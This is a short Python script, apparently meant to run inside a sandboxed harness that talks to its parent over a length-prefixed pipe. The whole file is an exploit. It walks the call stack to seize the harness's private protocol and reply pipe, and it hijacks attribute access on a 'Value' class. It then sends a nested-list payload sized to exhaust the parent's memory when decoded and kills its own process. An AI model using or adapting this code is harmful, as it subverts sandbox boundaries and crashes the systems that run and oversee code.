import os, struct, sys

frame = sys._getframe()
while "replies" not in frame.f_locals:
    frame = frame.f_back
wire, requests, replies = frame.f_globals["protocol"], frame.f_locals["requests"], frame.f_locals["replies"]


def send(value):
    data = wire.encode(value)
    os.write(replies, struct.pack(">I", len(data)) + data)


ROOM = {"number": 4096, "text": 4096, "callable": 16, "ref": 16}
CHAIN = b"l\0\0\0\1" * 9 + b"l\0\0\0\0"  # what takes most memory, byte for byte, once it is read


class Value(Value):
    def __getattribute__(self, name):
        frame = sys._getframe()
        while frame is not None and "steps" not in frame.f_locals:
            frame = frame.f_back
        if frame is not None:
            asked = sum(ROOM.get(step[3], 4 << 20) for step in frame.f_locals["steps"] if step[0] == "read")
            count = (131_072 + min(6 << 20, asked) - 5) // len(CHAIN)
            payload = b"l" + struct.pack(">I", count) + CHAIN * count
            os.write(replies, struct.pack(">I", len(payload)))
            sent = 0
            while sent < len(payload):
                sent += os.write(replies, payload[sent : sent + 65_536])
            os._exit(0)
        return super().__getattribute__(name)
